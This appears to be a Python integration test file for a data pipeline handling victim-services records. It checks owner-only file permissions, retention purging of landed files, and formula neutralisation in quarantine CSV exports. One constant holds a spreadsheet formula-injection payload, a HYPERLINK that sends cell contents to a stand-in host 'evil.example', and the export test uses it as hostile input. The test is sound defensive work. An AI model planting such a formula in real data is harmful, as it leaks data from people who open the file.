"""Privacy at rest: identifier-holding files owner-only, landing retention, spreadsheet-safe exports."""

from __future__ import annotations

import csv
import io
import os
import shutil
import uuid
from datetime import date
from pathlib import Path

import pytest

from pillars.warehouse import credentials
from pillars.warehouse.connect import connect
from tests.conftest import ROOT, run_pillars

pytestmark = pytest.mark.integration

GENERATED_DAY = date(2024, 2, 29)
PARTNER, FEED, DAY = "gulf_coast_survivors", "victim_services", date(2024, 3, 1)
HEADER = [
    "Client ID", "First Name", "Last Name", "DOB", "Sex", "Intake Date", "County", "Age Band", "Gender",
    "Trafficking Type", "Referral Source", "Service", "Service Date", "Exit Date", "exit_outcome",
]  # fmt: skip
HOSTILE_COUNTY = '=HYPERLINK("http://evil.example/?leak="&A1,"Harris")'


def _row(client: str, county: str = "Harris County") -> list[str]:
    return [client, "Zebulon", "Quixlander", "1990-02-03", "female", "2024-02-02", county, "18-24", "female", "sex",
            "law_enforcement", "case_management", "2024-02-05", "", ""]  # fmt: skip


def _csv(*rows: list[str]) -> bytes:
    out = io.StringIO()
    csv.writer(out, lineterminator="\n").writerows([HEADER, *rows])
    return out.getvalue().encode()


def _forget_batches(partner_id: str, logical_date: date) -> None:
    from pillars.load import ledger

    with connect() as conn, conn.transaction():
        rows = conn.execute(
            "select batch_id, feed from ops.batches where partner_id = %s and logical_date = %s",
            (partner_id, logical_date),
        ).fetchall()
        for batch_id, feed in rows:
            ledger.supersede(conn, feed, batch_id, None)
        for batch_id, _ in rows:
            ledger.forget(conn, batch_id)


def _modes(tree: Path) -> list[tuple[str, str]]:
    """Every folder not 0700 and every file not 0600 under ``tree`` (itself included)."""
    wrong = []
    for folder, _, files in os.walk(tree):
        if Path(folder).stat().st_mode & 0o777 != 0o700:
            wrong.append((folder, oct(Path(folder).stat().st_mode & 0o777)))
        for name in files:
            mode = (Path(folder) / name).stat().st_mode & 0o777
            if mode != 0o600:
                wrong.append((str(Path(folder) / name), oct(mode)))
    return wrong


@pytest.fixture
def private_local(warehouse, monkeypatch):
    """A `.local` of the test's own (landing, partner API data, synthetic, bench all beneath it)."""
    local = ROOT / ".local" / "test-run" / f"privacy-{uuid.uuid4().hex[:8]}"
    local.mkdir(parents=True)
    env = {"PILLARS_LOCAL_DIR": str(local), "PILLARS_LANDING_DIR": str(local / "landing")}
    for key, value in env.items():
        monkeypatch.setenv(key, value)
    yield local, env
    shutil.rmtree(local, ignore_errors=True)


def test_every_file_holding_identifiers_is_owner_only(private_local):
    from pillars.bench.ingest import sample_files
    from pillars.extract.http import write_window

    local, env = private_local
    # a file landed by an earlier version, world-readable: the next run repairs it
    old = local / "landing" / "old_partner" / "victim_services" / "2024-01-01" / "old.csv"
    old.parent.mkdir(parents=True)
    old.write_bytes(_csv(_row("C0")))
    for path in (old, *old.parents):
        if path == local:
            break
        path.chmod(0o755 if path.is_dir() else 0o644)

    generated = run_pillars("feeds", "generate", "--start", GENERATED_DAY.isoformat(), "--days", "1",
                            "--scale", "0.05", "--seed", "11", env=env)  # fmt: skip
    assert generated.returncode == 0, generated.stderr
    landed = sorted(p for p in (local / "landing").rglob("*") if p.is_file() and "old_partner" not in p.parts)
    assert landed, "generate landed no file"
    partner_id, feed = landed[0].relative_to(local / "landing").parts[:2]
    try:
        ingested = run_pillars("ingest", "--date", GENERATED_DAY.isoformat(), "--feed", feed, "--partner",
                               partner_id, env=env)  # fmt: skip
        assert "Traceback" not in ingested.stderr, ingested.stderr
        window = write_window([{"caseId": "X1", "defendantName": "Quinn Zed"}], "tx_oag", "prosecution_cases",
                              GENERATED_DAY)  # fmt: skip
        assert window is not None and window.exists()
        bench_files = sample_files(400)
        assert all(p.exists() for p in bench_files)
    finally:
        _forget_batches(partner_id, GENERATED_DAY)

    trees = [local / name for name in ("landing", "partner_api", "synthetic", "bench")]
    assert all(tree.is_dir() for tree in trees), [t for t in trees if not t.is_dir()]
    assert [w for tree in trees for w in _modes(tree)] == []


@pytest.fixture
def partition(warehouse):
    from pillars.extract.filedrop import partition_dir
    from pillars.privacy.files import private_dir

    folder = private_dir(partition_dir(PARTNER, FEED, DAY))
    for old in folder.iterdir():
        old.unlink()
    yield folder
    for old in folder.iterdir():
        old.unlink()
    _forget_batches(PARTNER, DAY)


def _ingest():
    from pillars.feeds.declarations.registry import get_partner
    from pillars.load.ingest import ingest_partition

    return ingest_partition(get_partner(PARTNER).feed(FEED), DAY)


def _ledger(source_file: str) -> tuple:
    with connect(credentials.LOADER_ROLE) as conn:
        return conn.execute(
            "select status, checksum, file_bytes, purged_at is not null from ops.batches"
            " where source_file like %s and logical_date = %s and partner_id = %s",
            (f"%/{source_file}", DAY, PARTNER),
        ).fetchone()


def _raw_rows(source_file: str) -> int:
    with connect(credentials.LOADER_ROLE) as conn:
        return conn.execute(
            "select count(*) from raw.victim_services where _logical_date = %s and _partner_id = %s"
            " and _batch_id in (select batch_id from ops.batches where source_file like %s)",
            (DAY, PARTNER, f"%/{source_file}"),
        ).fetchone()[0]


def _gate(source_file: str) -> None:
    """What the raw gate does when a batch passes (its own code is another module's)."""
    with connect() as conn, conn.transaction():
        conn.execute("update ops.batches set status = 'gated' where source_file like %s", (f"%/{source_file}",))


def test_retention_purges_gated_files_and_keeps_the_ledger(partition):
    from pillars.extract.filedrop import file_sha256
    from pillars.privacy.retention import purge_landed_files

    first = partition / "services_a.csv"
    first.write_bytes(_csv(_row("C1")))
    size, checksum = first.stat().st_size, file_sha256(first)
    [batch] = _ingest().batches
    assert batch.status == "loaded"

    assert purge_landed_files(FEED, days=0, partner_id=PARTNER, logical_date=DAY).purged == []  # not gated yet: kept
    _gate("services_a.csv")
    assert (
        purge_landed_files(FEED, days=1, partner_id=PARTNER, logical_date=DAY).purged == []
    )  # gated, but the retention has not passed
    assert first.exists()

    result = purge_landed_files(FEED, days=0, partner_id=PARTNER, logical_date=DAY)
    assert [Path(name).name for name in result.purged] == ["services_a.csv"]
    assert result.purged_bytes == size
    assert not first.exists()
    assert _ledger("services_a.csv") == ("gated", checksum, size, True)
    assert _raw_rows("services_a.csv") == 1

    # re-running the date, now with a second delivery beside it: the purged file was not withdrawn
    second = partition / "services_b.csv"
    second.write_bytes(_csv(_row("C2")))
    outcome = _ingest()
    assert outcome.withdrawn == 0 and not outcome.errors
    assert _ledger("services_a.csv")[0] == "gated"
    assert _raw_rows("services_a.csv") == 1

    # a due file whose bytes changed since it was loaded (a correction not loaded yet) is left alone
    _gate("services_b.csv")
    second.write_bytes(_csv(_row("C3")))
    kept = purge_landed_files(FEED, days=0, partner_id=PARTNER, logical_date=DAY)
    assert kept.purged == [] and "content changed" in kept.kept[0]
    assert second.exists()


def test_a_purged_loaded_batch_is_not_withdrawn_either(partition):
    """Whatever state counts as current, a batch retention emptied stays current on a re-run of its date."""
    first = partition / "services_a.csv"
    first.write_bytes(_csv(_row("C1")))
    _ingest()
    with connect() as conn, conn.transaction():  # its file purged while the batch is still 'loaded'
        conn.execute("update ops.batches set purged_at = now() where source_file like '%/services_a.csv'")
    first.unlink()
    (partition / "services_b.csv").write_bytes(_csv(_row("C2")))
    outcome = _ingest()
    assert outcome.withdrawn == 0
    assert _ledger("services_a.csv")[0] == "loaded"
    assert _raw_rows("services_a.csv") == 1


def test_retention_cli_says_what_it_did(partition):
    result = run_pillars("retention", "run", "--feed", FEED, "--partner", PARTNER, "--date", str(DAY), "--days", "0")
    assert result.returncode == 0, result.stderr
    assert "purged" in result.stdout
    bad = run_pillars("retention", "run", "--days", "-1")
    assert bad.returncode != 0 and "Traceback" not in bad.stderr


def test_quarantine_export_neutralises_formulas_and_is_owner_only(partition):
    (partition / "services_a.csv").write_bytes(_csv(_row("C1"), _row("C2", county=HOSTILE_COUNTY)))
    [batch] = _ingest().batches
    assert batch.rows_quarantined == 1
    with connect() as conn:  # stored as received (masked only where it is an identifier)
        stored = conn.execute(
            "select value_masked from quarantine.rejected_rows where batch_id = %s", (batch.batch_id,)
        ).fetchone()[0]
    assert stored.startswith("=HYPERLINK(")

    result = run_pillars("quarantine", "export", "--date", DAY.isoformat(), "--partner", PARTNER)
    assert result.returncode == 0, result.stderr
    path = Path(result.stdout.strip().split(" in ", 1)[1])
    with path.open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["value_masked"] for r in rows if r["field"] == "county_fips" or "county" in r["field"]] == ["'" + stored]
    assert path.stat().st_mode & 0o777 == 0o600
    assert path.parent.stat().st_mode & 0o777 == 0o700
